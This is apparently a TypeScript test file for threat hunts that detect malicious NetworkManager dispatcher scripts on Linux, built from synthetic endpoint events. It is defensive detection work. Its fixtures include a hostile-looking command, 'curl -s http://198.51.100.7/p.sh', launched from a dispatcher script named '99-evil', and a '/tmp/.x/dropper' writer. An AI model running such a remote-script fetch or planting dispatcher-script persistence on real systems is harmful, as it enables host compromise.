import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { clusterOf, evaluateEsql, type StoredEvent } from '../functions/local/esql';
import { parseHuntConfig } from '../functions/core/hunt-config';
import { buildHuntRequest } from '../functions/core/hunt-request';
import { HUNTS, huntById } from '../functions/core/hunts';
import { STATS_COLUMNS } from '../functions/core/hunts/hunt-definition';
import { NOW } from './support/esql';

/** The hunts' exact request (query text, parameters, filter), as the Lambda sends it, through the evaluator. */
const PROCESS = 'logs-endpoint.events.process-default';
const FILE = 'logs-endpoint.events.file-default';
const daysAgo = (d: number) => new Date(NOW - d * 86_400_000).toISOString();

const child = (agent: string, over: Record<string, unknown> = {}): StoredEvent => ({
  index: PROCESS,
  source: {
    '@timestamp': daysAgo(1),
    agent: { id: agent },
    host: { name: `host-${agent}`, os: { type: 'linux' } },
    event: { type: ['start'], action: 'exec', category: ['process'] },
    process: {
      executable: '/usr/bin/curl',
      command_line: 'curl -s http://198.51.100.7/p.sh',
      parent: { name: '99-evil', executable: '/etc/NetworkManager/dispatcher.d/99-evil' },
    },
    ...over,
  },
});

const write = (agent: string, path: string, executable: string, over: Record<string, unknown> = {}): StoredEvent => ({
  index: FILE,
  source: {
    '@timestamp': daysAgo(2),
    agent: { id: agent },
    host: { name: `host-${agent}`, os: { type: 'linux' } },
    event: { type: ['creation'], action: 'creation', category: ['file'] },
    file: { path, name: path.split('/').at(-1) },
    process: { executable, name: executable.split('/').at(-1) },
    ...over,
  },
});

const run = (huntId: string, events: StoredEvent[], config = parseHuntConfig({})) => {
  const request = buildHuntRequest(huntById(huntId)!, config);
  return evaluateEsql(request, clusterOf(events), { now: NOW });
};

describe('the hunts’ exact queries, evaluated', () => {
  it('both hunts parse and return their identity and stats columns, with no warning', () => {
    for (const hunt of HUNTS) {
      const result = run(hunt.id, [child('a1'), write('a1', '/etc/NetworkManager/dispatcher.d/99-evil', '/usr/bin/bash')]);
      const names = result.columns.map((c) => c.name);
      for (const column of [...hunt.identityFields, ...STATS_COLUMNS]) assert.ok(names.includes(column), `${hunt.id}: ${column}`);
      assert.equal(result.values.length, 1, hunt.id);
      assert.deepEqual(result.warnings, [], hunt.id);
    }
  });

  it('dispatcher-child-process: groups by script, child and command line, keeps rare rows, samples hosts', () => {
    const events = [
      ...['a1', 'a2', 'a3', 'a4'].map((a) => child(a, { process: { executable: '/usr/bin/logger', command_line: 'logger up', parent: { name: 'nm-dispatcher', executable: '/usr/libexec/nm-dispatcher' } } })),
      child('a1'),
      child('a1'),
      child('a9', { '@timestamp': daysAgo(40) }),
      child('a1', { event: { type: ['start'], action: 'fork' } }),
    ];
    const result = run('dispatcher-child-process', events);
    const rows = result.values.map((v) => Object.fromEntries(result.columns.map((c, i) => [c.name, v[i]])));
    assert.equal(rows.length, 1, 'the logger child runs on 4 agents: not rare; the 40-day-old event is outside the lookback; fork is not exec');
    assert.equal(rows[0]!.event_count, 2);
    assert.equal(rows[0]!.agent_count, 1);
    assert.equal(rows[0]!.host_names, 'host-a1');
    assert.equal(rows[0]!.first_seen, daysAgo(1));
  });

  it('dispatcher-script-write: drops trusted writers by the request filter and the query, keeps the rest', () => {
    const config = parseHuntConfig({ exclusions: { 'dispatcher-script-write': ['/opt/ansible/bin/python3', '/opt/salt/*'] } });
    const events = [
      write('a1', '/etc/NetworkManager/dispatcher.d/99-evil', '/usr/bin/bash'),
      write('a1', '/etc/NetworkManager/dispatcher.d/01-ifupdown', '/usr/bin/dpkg'),
      write('a1', '/etc/NetworkManager/dispatcher.d/02-ansible', '/opt/ansible/bin/python3'),
      write('a1', '/etc/NetworkManager/dispatcher.d/03-salt', '/opt/salt/bin/salt-minion'),
      write('a2', '/usr/lib/NetworkManager/dispatcher.d/no-wait.d/10-x', '/tmp/.x/dropper'),
    ];
    const result = run('dispatcher-script-write', events, config);
    const paths = result.values.map((v) => v[result.columns.findIndex((c) => c.name === 'file.path')]).sort();
    assert.deepEqual(paths, ['/etc/NetworkManager/dispatcher.d/99-evil', '/usr/lib/NetworkManager/dispatcher.d/no-wait.d/10-x']);
  });

  it('returns at most the hunt’s LIMIT rows, rarest first', () => {
    const events = Array.from({ length: 150 }, (_, i) => write(`a${i % 2}`, `/etc/NetworkManager/dispatcher.d/decoy-${i}`, '/usr/bin/bash'));
    events.push(write('a1', '/etc/NetworkManager/dispatcher.d/decoy-0', '/usr/bin/bash'));
    const result = run('dispatcher-script-write', events);
    assert.equal(result.values.length, 100);
    const count = result.columns.findIndex((c) => c.name === 'event_count');
    assert.ok(result.values.every((v) => v[count] === 1), 'the one path written twice sorts after the 149 written once and is cut');
  });
});

describe('what the evaluator shows about the hunts’ assumptions', () => {
  // event.type is an array in ECS; a sensor reporting two types makes `event.type == "start"` null (with a warning).
  it('an event with several event.type values is dropped by both hunts, with a warning', () => {
    const result = run('dispatcher-child-process', [child('a1', { event: { type: ['start', 'change'], action: 'exec' } })]);
    assert.equal(result.values.length, 0);
    assert.match(result.warnings.join('\n'), /evaluation of \[event\.type == "start"\] failed, treating result as null/);
    const writeResult = run('dispatcher-script-write', [write('a1', '/etc/NetworkManager/dispatcher.d/x', '/usr/bin/bash', { event: { type: ['creation', 'change'] } })]);
    assert.equal(writeResult.values.length, 0);
    assert.match(writeResult.warnings.join('\n'), /evaluation of \[event\.type IN \("creation", "change"\)\] failed/);
  });

  // process.executable is a keyword with ignore_above 1024: a longer path reads as null.
  it('a writer path longer than 1,024 characters is read as null: the row has no writer identity', () => {
    const long = `/tmp/${'a'.repeat(1100)}/w`;
    const result = run('dispatcher-script-write', [write('a1', '/etc/NetworkManager/dispatcher.d/x', long)]);
    assert.equal(result.values.length, 1);
    assert.equal(result.values[0]![result.columns.findIndex((c) => c.name === 'process.executable')], null);
  });

  it('a multi-valued parent name or executable drops a child row, with a warning', () => {
    const result = run('dispatcher-child-process', [child('a1', { process: { executable: '/bin/sh', command_line: 'sh', parent: { name: ['nm-dispatcher', 'x'], executable: ['/usr/libexec/nm-dispatcher', '/x'] } } })]);
    assert.equal(result.values.length, 0);
    assert.ok(result.warnings.some((w) => w.includes('single-value function encountered multi-value')));
  });
});
